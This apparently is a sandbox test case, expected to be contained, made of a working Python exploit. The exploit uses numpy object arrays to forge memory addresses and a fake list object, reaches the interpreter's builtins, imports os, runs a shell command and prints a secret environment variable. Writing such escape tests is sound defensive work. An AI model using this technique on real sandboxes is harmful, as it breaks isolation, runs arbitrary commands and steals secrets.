# class: numpy_raw_memory
# expect: contained
# attack: addrof through an object array's tobytes, fakeobj through ndarray(buffer=ints, dtype='O'), then a fake list that dereferences a function's builtins pointer and imports os

names = get_object_name_list()
print("objects:", names)
keep = []


def address_of(thing):
    slot = np.empty(1, dtype="O")
    slot[0] = thing
    return int.from_bytes(slot.tobytes(), "little")


def object_at(address):
    holder = np.array([address], dtype=np.int64)
    keep.append(holder)
    return np.ndarray((1,), dtype="O", buffer=holder)[0]


def pointer_field(thing, offset):
    # a list object laid out by hand: refcount, type, size, items pointer, allocated
    fake = np.array([1 << 40, address_of(list), 1, address_of(thing) + offset, 1], dtype=np.int64).tobytes()
    keep.append(fake)
    return object_at(address_of(fake) + 32)[0]


found = None
for function in (Pose.copy, get_object_name_list, print):
    for offset in (24, 16, 32):
        candidate = pointer_field(function, offset)
        if isinstance(candidate, dict) and "open" in candidate and "exec" in candidate:
            found = candidate
            break
    if found is not None:
        break

if found is not None:
    os_module = found["__import__"]("os")
    found["getattr"](os_module, "system")("touch MARK")
    print(found["getattr"](os_module, "environ").get("ROBOSCRIPT_TEST_SECRET"))
print("done")
